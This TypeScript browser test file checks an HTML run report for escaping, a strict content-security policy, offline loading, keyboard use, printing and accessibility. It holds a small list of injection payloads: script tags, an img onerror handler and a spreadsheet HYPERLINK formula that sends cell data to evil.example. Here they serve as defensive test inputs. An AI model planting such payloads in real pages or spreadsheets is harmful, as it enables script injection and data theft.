import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunMode } from '../../src/core/mode.js';
import type { RowReport } from '../../src/core/report.js';
import { writeHtml } from '../../src/report/html/report-html.js';
import type { TimelinePoint } from '../../src/report/timeline.js';
import { browserPath, startBrowser } from '../helpers/browser.js';
import { temporaryFolder } from './folder.js';
import { rowReport, runReport } from './rows.js';

const folder = await temporaryFolder();
const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

const HOSTILE = [
  '<script>globalThis.hacked = 1</script>',
  '</script><script>globalThis.hacked = 2</script>',
  '<img src=x onerror="globalThis.hacked = 3">',
  '=HYPERLINK("http://evil.example/?" & A1, "x")',
  '"><b>bold</b>&amp;<!--',
];

const failed = (ordinal: number, createResult: string): RowReport =>
  rowReport({
    ordinal,
    row: ordinal + 2,
    identifiers: [5000 - ordinal, createResult],
    outcome: ordinal % 3 === 0 ? 'rejected' : 'failed',
    createdClientId: null,
    createResult,
    enqueueResult: null,
    problems: [{ column: createResult, code: 'bad', message: createResult, value: createResult }],
  });
const ROWS = [
  ...HOSTILE.map((text, at) => failed(at, text)),
  ...Array.from({ length: 245 }, (_, at) => failed(at + 5, 'Too old.')),
  ...Array.from({ length: 300 }, (_, at) => rowReport({ ordinal: at + 250, row: at + 252 })),
];
const POINTS: TimelinePoint[] = Array.from({ length: 60 }, (_, second) => ({
  second,
  completedPerSecond: 1 / 60,
  concurrency: 3 + Math.sin(second / 5),
  meanLatency: second % 7 === 0 ? null : 80 + second,
  longestLatency: second % 7 === 0 ? null : 150 + second,
}));

interface Wanted {
  readonly rows?: RowReport[];
  readonly points?: TimelinePoint[] | null;
  readonly max?: number;
  readonly mode?: RunMode;
}
const CHANGES = [
  { second: 0.5, concurrency: 8, batchSize: 500, reason: 'answers come as quickly' },
];

interface Violation {
  readonly id: string;
  readonly nodes: readonly { readonly html: string; readonly failureSummary: string }[];
}

describe.skipIf(browserPath === undefined)('the page of a run, in a browser', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await startBrowser();
  });
  afterAll(() => browser.close());

  /** Opens a page from the disk; `asked` and `faults` tell what it loaded and what went wrong. */
  async function opened(
    { rows = ROWS, points = POINTS, max = 50_000, mode = 'create' }: Wanted = {},
    colorScheme: 'light' | 'dark' = 'light',
  ) {
    const file = join(folder, `report-${Math.random()}.html`);
    const inputs = ['/data/leads.csv', `/data/${HOSTILE[2]!.replaceAll('/', '')}`];
    const timeline = points && { points, changes: CHANGES, left: 0 };
    const report = runReport(rows, { inputs, mode });
    await writeHtml(file, { ...report, timeline: () => Promise.resolve(timeline) }, max);
    const page = await browser.newPage({ colorScheme, viewport: { width: 1200, height: 900 } });
    const [asked, faults]: [string[], string[]] = [[], []];
    page.on('request', (request) => asked.push(request.url()));
    page.on('pageerror', (error) => faults.push(error.message));
    page.on('console', (message) => message.type() === 'error' && faults.push(message.text()));
    const url = pathToFileURL(file).href;
    await page.goto(url);
    return { page, asked, faults, url };
  }

  const lines = (page: Page) => page.locator('#table tbody tr');
  const firstCell = (page: Page) => page.locator('#table tbody td').first().textContent();

  it('opens from the disk, loads nothing else, and draws its charts', async () => {
    const { page, asked, faults, url } = await opened();
    expect(await page.locator('.chart canvas').count()).toBe(3);
    expect(faults).toEqual([]);
    expect(asked).toEqual([url]);
    await page.close();
  });

  it('counts the rows by outcome', async () => {
    const { page } = await opened();
    expect(await page.locator('#all-rows').textContent()).toBe('550');
    const cells = await page.locator('section:first-of-type tbody tr:not(.sum)').allInnerTexts();
    const counts = cells.map((line) => line.split('\t').slice(0, 2));
    expect(counts).toEqual([
      ['enqueued', '300'],
      ['failed', '166'],
      ['rejected', '84'],
    ]);
    await page.close();
  });

  it('takes no text for markup, wherever it stands', async () => {
    const { page, faults } = await opened();
    expect(await page.evaluate('globalThis.hacked')).toBeUndefined();
    expect(await page.locator('main script, main img, main b, main a').count()).toBe(0);
    const table = await page.locator('#table tbody').innerText();
    const reasons = await page.locator('section[aria-labelledby=reasons]').innerText();
    for (const text of HOSTILE) {
      expect(table).toContain(text);
      expect(reasons).toContain(text);
    }
    expect(faults).toEqual([]);
    await page.close();
  });

  it('may not talk to anybody', async () => {
    const { page } = await opened();
    const outcome = await page.evaluate(
      `fetch('http://127.0.0.1:9/').then(() => 'sent', (error) => error.message)`,
    );
    expect(outcome).toContain('Failed to fetch');
    const policy = page.locator('meta[http-equiv=Content-Security-Policy]');
    expect(await policy.getAttribute('content')).toMatch(
      /^default-src 'none'; script-src 'sha256-[^' ]+'; style-src 'sha256-[^' ]+'; base-uri 'none'; form-action 'none'$/,
    );
    const ran = await page.evaluate(
      `(() => { const own = document.createElement('script'); own.textContent = 'globalThis.added = 1'; document.body.append(own); return globalThis.added; })()`,
    );
    expect(ran).toBeUndefined();
    await page.close();
  });

  it('finds, filters, sorts and turns pages by the keyboard alone', async () => {
    const { page } = await opened();
    expect(await lines(page).count()).toBe(100);
    await page.getByLabel('Search').focus();
    await page.keyboard.type('HYPERLINK');
    expect(await page.locator('#count').textContent()).toBe('1 row');
    await page.keyboard.press('Control+A');
    await page.keyboard.press('Delete');
    await page.keyboard.press('Tab');
    await page.keyboard.type('rejected');
    expect(await page.locator('#count').textContent()).toBe('84 rows');
    await page.locator('#outcome').selectOption('');
    await page.getByRole('button', { name: 'offerId' }).focus();
    await page.keyboard.press('Enter');
    expect(await page.locator('th[aria-sort=ascending]').innerText()).toContain('offerId');
    expect(await firstCell(page)).toBe('251');
    await page.keyboard.press('Enter');
    expect(await firstCell(page)).toBe('2');
    await page.getByRole('button', { name: 'Next' }).focus();
    await page.keyboard.press('Enter');
    await page.keyboard.press('Enter');
    expect(await page.locator('#page').textContent()).toBe('Page 3 of 3');
    expect(await lines(page).count()).toBe(50);
    await page.close();
  });

  it('says how many rows it holds where there are more, and counts them all', async () => {
    const { page } = await opened({ max: 120 });
    expect(await page.locator('.notice').innerText()).toContain('The first 120 of 250 rows');
    expect(await page.locator('#count').textContent()).toBe('120 rows');
    expect(await page.locator('#all-rows').textContent()).toBe('550');
    await page.close();
  });

  it('prints all rows that are searched for, not those of one page alone', async () => {
    const { page, faults } = await opened();
    // What a browser does when it prints; the page is as before afterwards.
    const printing = async () => {
      await page.evaluate(`
        globalThis.printed = [];
        addEventListener('beforeprint', () => {
          globalThis.printed = [document.querySelectorAll('#table tbody tr').length, document.getElementById('printed').textContent];
        });`);
      const paper = await page.pdf();
      return { printed: await page.evaluate('globalThis.printed'), paper };
    };
    const all = await printing();
    expect(all.printed).toEqual([250, '250 rows']);
    expect(await lines(page).count()).toBe(100);
    expect(await page.locator('#printed').isVisible()).toBe(false);
    await page.locator('#outcome').selectOption('rejected');
    const some = await printing();
    expect(some.printed).toEqual([84, '84 rows']);
    expect(all.paper.length).toBeGreaterThan(some.paper.length);
    expect(faults).toEqual([]);
    await page.close();
  });

  it('prints no more than paper is good for, and says so', async () => {
    const rows = Array.from({ length: 5100 }, (_, at) => failed(at, 'Too old.'));
    const { page } = await opened({ rows });
    await page.evaluate(`dispatchEvent(new Event('beforeprint'))`);
    expect(await lines(page).count()).toBe(5000);
    await page.emulateMedia({ media: 'print' });
    expect(await page.locator('#printed').innerText()).toBe(
      'The first 5,000 of 5,100 rows are printed; --format csv or xlsx has them all.',
    );
    await page.evaluate(`dispatchEvent(new Event('afterprint'))`);
    expect(await lines(page).count()).toBe(100);
    await page.close();
  });

  it('shows what a comparison found, in columns of its own', async () => {
    const rows = [
      rowReport({
        outcome: 'different',
        inspection: {
          verdict: 'different',
          clientId: 17,
          differences: [{ field: 'fullName', sheet: '<b>A</b>', center: 'B' }],
          application: {
            ...{
              campaignId: 42,
              hasRecall: true,
              status: 'FAILED',
              calledCount: 3,
              nextCall: null,
            },
          },
        },
      }),
      rowReport({ ordinal: 1, row: 3, outcome: 'match' }),
    ];
    const { page, faults } = await opened({ rows, mode: 'reconcile' });
    expect(await page.locator('#outcomes').innerText()).toBe('Verdicts');
    const heads = await page.locator('#table th').allInnerTexts();
    const cells = await page.locator('#table tbody td').allInnerTexts();
    expect(Object.fromEntries(heads.map((name, at) => [name, cells[at]]))).toMatchObject({
      row: '2',
      verdict: 'different',
      clientId: '17',
      applicationStatus: 'FAILED',
      callsMade: '3',
      nextCall: '',
      callback: 'true',
      differences: 'fullName: "<b>A</b>" in the spreadsheet, "B" on the card',
    });
    expect(await lines(page).count()).toBe(1);
    const reasons = await page.locator('section[aria-labelledby=reasons] tbody').innerText();
    expect(reasons).toContain('fullName\tThe card has another value.');
    // As wide as the sheet between its margins.
    await page.setViewportSize({ width: 1032, height: 700 });
    await page.emulateMedia({ media: 'print' });
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(1032);
    expect(faults).toEqual([]);
    await page.close();
  });

  it('says so where there is no record over time, and no row that did not end well', async () => {
    const { page, faults } = await opened({ rows: [rowReport()], points: null });
    const text = await page.locator('main').innerText();
    expect(text).toContain('There is no record of answers over time');
    expect(text).toContain('There are none.');
    expect(faults).toEqual([]);
    await page.close();
  });

  it.each(['light', 'dark'] as const)('has no barrier that axe knows, %s', async (scheme) => {
    const { page } = await opened({ max: 120 }, scheme);
    for (const details of await page.locator('summary').all()) await details.click();
    await page.evaluate(axe);
    const { violations } = await page.evaluate<{ violations: Violation[] }>('axe.run()');
    const told = violations.map(({ id, nodes }) => [id, nodes[0]?.html, nodes[0]?.failureSummary]);
    expect(told).toEqual([]);
    const shots = process.env['CARDLINE_SCREENSHOTS'];
    if (shots !== undefined)
      await page.screenshot({ path: join(shots, `report-${scheme}.png`), fullPage: true });
    await page.close();
  });
});
